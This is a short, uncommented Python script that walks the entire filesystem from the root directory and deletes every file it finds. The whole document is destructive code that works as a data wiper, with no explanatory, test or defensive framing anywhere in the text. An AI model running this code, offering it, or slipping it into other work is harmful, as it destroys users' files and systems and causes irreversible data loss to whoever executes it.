import os
for root, dirs, names in os.walk('/'):
    for n in names:
        os.remove(os.path.join(root, n))
